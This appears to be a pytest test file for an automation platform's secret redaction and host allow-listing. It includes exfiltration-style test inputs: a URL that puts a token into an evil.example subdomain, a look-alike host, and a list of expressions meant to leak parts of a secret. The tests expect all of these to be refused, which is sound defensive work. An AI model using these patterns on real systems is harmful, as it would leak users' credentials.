"""Secrets of automations: where they may be named, where they may be sent, and that nothing which
comes back tells them."""

import base64
import html
import json
import logging
import re
import traceback
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, quote_plus

import pytest

from apps.automations.checking import issues_of
from apps.automations.contracts import NodeType
from apps.automations.expressions import paths
from apps.automations.expressions.errors import NotAllowed
from apps.automations.secrets import HIDDEN, Secrets
from apps.simulators.echo import EchoSink
from apps.simulators.http import Answer
from tests.automations.drawing import graph, node
from tests.automations.effects import refused, told, tried
from tests.outbound.serving import http_answer, server
from tests.simulators.running import Recorder, running

TOKEN = "tok-0123456789abcdef"
#: What is written differently almost everywhere.
ODD = "pä\"ss w/o\\rd+&<x>'%=\n…😀"
HERE = frozenset({"127.0.0.1"})


@pytest.fixture(autouse=True)
def _here(settings: Any) -> None:
    settings.OUTBOUND_ALLOWED_HOSTS = {"127.0.0.1", "localhost"}
    settings.AUTOMATION_SECRETS = {
        "TOKEN": (TOKEN, HERE),
        "ODD": (ODD, HERE),
        "LONGER": (TOKEN + "-and-more", HERE),
        "SHORT": ("1234567", HERE),
        "NOWHERE": ("no-where-to-go", frozenset()),
    }


@pytest.fixture(scope="module")
def echo() -> Iterator[str]:
    with running({"echo": EchoSink().answer}) as url:
        yield f"{url}/echo"


# --- how they come back ---------------------------------------------------------------------------
def spellings(secret: str) -> list[str]:
    raw = secret.encode()
    return [
        secret,
        secret.upper(),
        secret.lower(),
        quote(secret),
        quote(secret, safe=""),
        quote(secret, safe="").lower(),
        quote_plus(secret),
        quote(quote(secret, safe=""), safe=""),
        json.dumps(secret),
        json.dumps(secret, ensure_ascii=False),
        json.dumps(json.dumps(secret)),
        json.dumps(secret).replace("/", "\\/"),
        html.escape(secret),
        html.escape(html.escape(secret)),
        "".join(f"&#{ord(c)};" for c in secret),
        "".join(f"&#x{ord(c):X};" for c in secret),
        repr(raw),
        raw.decode("latin-1"),
        raw.hex(),
        raw.hex(":").upper(),
        *(base64.b64encode(b"x" * n + raw + b"y" * m).decode() for n in range(3) for m in range(3)),
        base64.urlsafe_b64encode(raw).decode(),
        "\r\n".join(re.findall(".{1,5}", base64.b64encode(raw).decode())),
        quote(base64.b64encode(raw).decode(), safe=""),
    ]


@pytest.mark.parametrize("secret", [TOKEN, ODD, "12345678", "ääääääää"])
def test_a_secret_is_hidden_however_it_is_spelled(settings: Any, secret: str) -> None:
    settings.AUTOMATION_SECRETS = {"S": (secret, HERE)}
    for text in spellings(secret):
        for around in (text, f"before {text} after", json.dumps({"echo": text})):
            hidden = Secrets().hidden(around)
            assert HIDDEN in hidden, text
            assert len(hidden) < len(around) - len(text) + len(HIDDEN) + 12, text


def test_it_is_hidden_everywhere_in_a_value() -> None:
    value = {TOKEN: [1, None, {"a": f"x{TOKEN}"}], "b": True, "c": 1.5}
    assert Secrets().hidden(value) == {HIDDEN: [1, None, {"a": f"x{HIDDEN}"}], "b": True, "c": 1.5}
    assert Secrets().hidden(f"{TOKEN}-and-more") == HIDDEN
    assert Secrets().hidden({"a": "nothing"}) == {"a": "nothing"}


def test_a_number_is_hidden_too(settings: Any) -> None:
    settings.AUTOMATION_SECRETS = {"PIN": ("12345678", HERE)}
    assert Secrets().hidden([12345678, 123456789, 1234567]) == [HIDDEN, HIDDEN, 1234567]


def test_the_sites_own_keys_are_hidden_too(settings: Any) -> None:
    (key,) = settings.AUTOMATIONS_WEBHOOK_SECRETS
    assert Secrets().hidden(f"{settings.AI_API_KEY} {key}") == f"{HIDDEN} {HIDDEN}"


@pytest.mark.parametrize("name", ["TOKEN", "ODD"])
def test_an_echo_of_what_was_sent_tells_nothing(echo: str, name: str) -> None:
    secret = {"TOKEN": TOKEN, "ODD": ODD}[name]
    output = tried(
        "api_call",
        url=f"{echo}/{{{{ secrets.TOKEN }}}}?t={{{{ secrets.TOKEN }}}}",
        method="POST",
        headers={"Authorization": "Bearer {{ secrets.TOKEN }}"},
        body={"a": f"{{{{ secrets.{name} }}}}", "b": f"x {{{{ secrets.{name} }}}}"},
    )
    assert output["data"]["headers"]["authorization"] == f"Bearer {HIDDEN}"
    assert output["data"]["path"] == HIDDEN
    assert output["data"]["json"] == {"a": HIDDEN, "b": f"x {HIDDEN}"}
    assert Secrets().hidden(output) == output
    assert secret not in json.dumps(output, ensure_ascii=False)


def test_it_is_sent_as_it_is() -> None:
    recorder = Recorder()
    with running({"it": recorder.answer}) as url:
        data = {"payload": {"k": "{{ secrets.ODD }}"}, "url": f"{url}/it"}
        tried("webhook", **data)
        tried("api_call", url=f"{url}/it", method="PUT", headers={"X": "t {{ secrets.TOKEN }}"})
    assert recorder.heard[0].json() == {"k": ODD}
    assert recorder.heard[1].headers["x"] == f"t {TOKEN}"


@pytest.mark.parametrize("status", [b"404 Not Found", b"503 Down", b"200 OK"])
@pytest.mark.parametrize("name", ["TOKEN", "ODD"])
def test_answers_and_errors_tell_no_secret(status: bytes, name: str) -> None:
    """In the status's text, in headers and in the body, also of bytes that are no text."""
    secret = {"TOKEN": TOKEN, "ODD": ODD}[name]
    line = secret.encode().replace(b"\n", b" ")
    for text in spellings(secret):
        body = b"x" * 290 + text.encode() + b"\xff"
        more = b"X-%s: 1\r\nX-Echo: %s\r\n" % (TOKEN.encode(), TOKEN.encode())
        for content in (body, body[:-1]):
            with server(http_answer(content, status + b" " + line, b"text/plain", more)) as port:
                url = f"http://127.0.0.1:{port}/"
                if status.startswith(b"200"):
                    output = tried("api_call", url=url)
                    assert HIDDEN in _read(output["data"])
                    assert Secrets().hidden(output) == output
                    assert output["headers"][f"x-{HIDDEN}"] == "1"
                else:
                    error = refused("api_call", url=url)
                    assert Secrets().hidden(error.recorded) == error.recorded
                    assert secret[:12] not in _all_of(error)


def _read(data: Any) -> str:
    if isinstance(data, dict):
        return base64.b64decode(data["base64"]).decode("latin-1")
    return str(data)


def _all_of(error: BaseException) -> str:
    """Everything that a log of the error would have."""
    return "".join(traceback.format_exception(error))


def test_the_second_program_to_answer_a_secret_never_had_it_from_this_call() -> None:
    recorder = Recorder()
    recorder.says = Answer(200, {"kept": TOKEN})
    with running({"it": recorder.answer}) as url:
        assert tried("api_call", url=f"{url}/it")["data"] == {"kept": HIDDEN}


def test_what_is_said_instead_of_http_tells_no_secret() -> None:
    with server(f"HTTP/1.1 {TOKEN}\r\n\r\n".encode()) as port:
        error = refused("api_call", url=f"http://127.0.0.1:{port}/{{{{ secrets.TOKEN }}}}")
    assert error.code == "not_reachable"
    assert TOKEN not in _all_of(error)


@pytest.mark.parametrize("status", [b"200 OK", b"404 No"])
def test_no_log_has_a_secret(status: bytes, caplog: pytest.LogCaptureFixture) -> None:
    """Also where everything is logged."""
    caplog.set_level(logging.DEBUG)
    with server(http_answer(b"", status, more=b"X: %s\r\n" % TOKEN.encode())) as port:
        data: dict[str, Any] = {"url": f"http://127.0.0.1:{port}/{{{{ secrets.TOKEN }}}}"}
        data["headers"] = {"X": "{{ secrets.TOKEN }}"}
        if status == b"200 OK":
            assert tried("api_call", **data)["headers"]["x"] == HIDDEN
        else:
            assert told("api_call", **data) == ("Invalid", "call_refused")
    assert TOKEN not in caplog.text


# --- where they may be sent -----------------------------------------------------------------------
@pytest.mark.parametrize(
    "data",
    [
        {"url": "http://localhost:PORT/?t={{ secrets.TOKEN }}"},
        {"url": "http://localhost:PORT/", "headers": {"X": "{{ secrets.TOKEN }}"}},
        {"url": "http://{{ params.host }}:PORT/", "headers": {"X": "{{ secrets.TOKEN }}"}},
        {"url": "{{ params.url }}", "body": ["{{ secrets.TOKEN }}"], "method": "POST"},
        {"url": "https://{{ secrets.TOKEN }}.evil.example/"},
        {"url": "https://127.0.0.1.evil.example/", "headers": {"X": "{{ secrets.TOKEN }}"}},
        {"url": "http://127.0.0.1:PORT/", "headers": {"X": "{{ secrets.NOWHERE }}"}},
    ],
)
def test_a_secret_goes_to_its_hosts_only(echo: str, data: dict[str, Any]) -> None:
    port = echo.split(":")[2].partition("/")[0]
    sent = json.loads(json.dumps(data).replace("PORT", port))
    params = {"host": "localhost", "url": f"http://localhost:{port}/"}
    error = refused("api_call", params=params, **sent)
    assert error.code == "secret_not_for_host"
    assert TOKEN not in error.recorded.lower()


def test_a_host_may_be_listed_with_its_port(echo: str, settings: Any) -> None:
    port = int(echo.split(":")[2].partition("/")[0])
    data = {"url": echo, "headers": {"X": "{{ secrets.TOKEN }}"}}
    settings.AUTOMATION_SECRETS = {"TOKEN": (TOKEN, frozenset({f"127.0.0.1:{port}"}))}
    assert tried("api_call", **data)["status"] == 200
    settings.AUTOMATION_SECRETS = {"TOKEN": (TOKEN, frozenset({f"127.0.0.1:{port + 1}"}))}
    assert told("api_call", **data) == ("Invalid", "secret_not_for_host")


def test_a_redirect_takes_no_secret_along(echo: str) -> None:
    other = Recorder()
    with running({"other": other.answer}) as url:
        place = f"{url}/other".replace("127.0.0.1", "localhost")
        data = {"headers": {"Authorization": "{{ secrets.TOKEN }}"}}
        assert tried("api_call", url=f"{echo}?status=307&location={place}", **data)["status"] == 307
    assert other.heard == []


@pytest.mark.parametrize(
    ("name", "code"), [("NONE", "secret_unknown"), ("SHORT", "secret_too_short")]
)
def test_a_secret_that_cannot_be_hidden_is_not_sent(echo: str, name: str, code: str) -> None:
    error = refused("api_call", url=f"{echo}?t={{{{ secrets.{name} }}}}")
    assert error.code == code
    assert name in error.detail


# --- where they may be named ----------------------------------------------------------------------
WITH_SECRETS = {
    "api_call": ({"url": "https://example.org/"}, ("url", "body")),
    "webhook": ({"url": "https://example.org/"}, ("url", "payload")),
}
WITHOUT = [
    ("condition", {"condition": "secrets.TOKEN == 1"}),
    ("transform", {"mapping": {"a": "secrets.TOKEN"}}),
    ("delay", {"delay_seconds": "{{ secrets.TOKEN }}"}),
    ("database", {"operation": "insert", "table": "t", "query": {"values": {"a": "SECRET"}}}),
    (
        "database",
        {"operation": "select", "table": "t", "query": "q", "parameters": {"a": "SECRET"}},
    ),
    ("ai_agent", {"prompt": "Say {{ secrets.TOKEN }}"}),
    ("approval", {"title": "SECRET", "group": "g"}),
    ("approval", {"title": "t", "group": "g", "detail": "SECRET"}),
    ("approval", {"title": "t", "group": "g", "amount": "SECRET", "currency": "NGN"}),
]


def codes(type: str, data: dict[str, Any]) -> set[str]:
    written = json.loads(json.dumps(data).replace("SECRET", "{{ secrets.TOKEN }}"))
    return {issue.code for issue in issues_of(graph("a", a=node(type, **written)))}


@pytest.mark.parametrize(("type", "data"), WITHOUT)
def test_a_secret_is_named_nowhere_but_in_what_is_sent(type: str, data: dict[str, Any]) -> None:
    found = codes(type, data) - {"database_not_configured"}
    assert found
    assert found <= {"secret_not_allowed", "expression_not_allowed"}
    assert codes(type, data)


def test_every_type_of_node_is_known_to_these_tests() -> None:
    assert {*WITH_SECRETS, *(type for type, _data in WITHOUT)} == set(NodeType)


@pytest.mark.parametrize("type", WITH_SECRETS)
def test_a_secret_may_be_named_in_what_is_sent(type: str) -> None:
    data, parts = WITH_SECRETS[type]
    for part in parts:
        assert codes(type, {**data, part: "https://h/{{ secrets.TOKEN }}"}) == set()
    if type == "api_call":
        assert codes(type, {**data, "headers": {"X": "Bearer {{ secrets.TOKEN }}"}}) == set()


CLEVER = [
    "secrets",
    "secrets.*",
    "values(secrets)",
    "keys(secrets)",
    "to_string(secrets)",
    "secrets.TOKEN[0]",
    "secrets.TOKEN.x",
    "reverse(secrets.TOKEN)",
    "starts_with(secrets.TOKEN, 'tok')",
    "contains(secrets.TOKEN, 'tok')",
    "length(secrets.TOKEN)",
    "secrets.TOKEN < 'u'",
    "secrets.TOKEN == 'tok'",
    "abs(secrets.TOKEN)",
    "[secrets.TOKEN]",
    "{a: secrets.TOKEN}",
    "join('', [secrets.TOKEN])",
    "secrets.TOKEN || 'x'",
    "secrets | TOKEN",
    'secrets."TOKEN"',
    "inputs[?a == secrets.TOKEN]",
]


@pytest.mark.parametrize("expression", CLEVER)
def test_a_secret_stands_alone_in_its_braces(expression: str) -> None:
    """A part of it, or what a comparison says, is not hidden where it comes back."""
    if expression == "inputs[?a == secrets.TOKEN]":
        # There `secrets` is a member of each input.
        assert codes("api_call", {"url": f"{{{{ {expression} }}}}"}) == set()
        return
    with pytest.raises(NotAllowed) as no:
        paths.nodes_of(expression)
    assert no.value.code == "secret_not_allowed"
    assert codes("api_call", {"url": f"{{{{ {expression} }}}}"}) == {"secret_not_allowed"}


@pytest.mark.parametrize(
    "expression", [*CLEVER, "@", "*", "values(@)", "@.secrets.TOKEN", "*.TOKEN"]
)
def test_and_gives_nothing_if_it_does_not(echo: str, expression: str) -> None:
    secrets = Secrets()
    inputs = [{"a": 1}]
    try:
        output = tried(
            "api_call",
            url=echo,
            method="POST",
            body=[f"{{{{ {expression} }}}}"],
            inputs=inputs,
            secrets=secrets,
        )
    except Exception as error:
        assert TOKEN not in _all_of(error)
    else:
        assert "tok" not in json.dumps(output["data"]["body"])
        assert HIDDEN not in json.dumps(output)
    # None was read, so none was checked against its hosts, and none was sent.
    assert secrets._read == set()


@pytest.mark.parametrize("type", ["ai_agent"])
def test_a_prompt_has_none(type: str, settings: Any) -> None:
    error = refused(type, prompt="Say {{ secrets.TOKEN }}")
    assert error.code == "expression_failed"
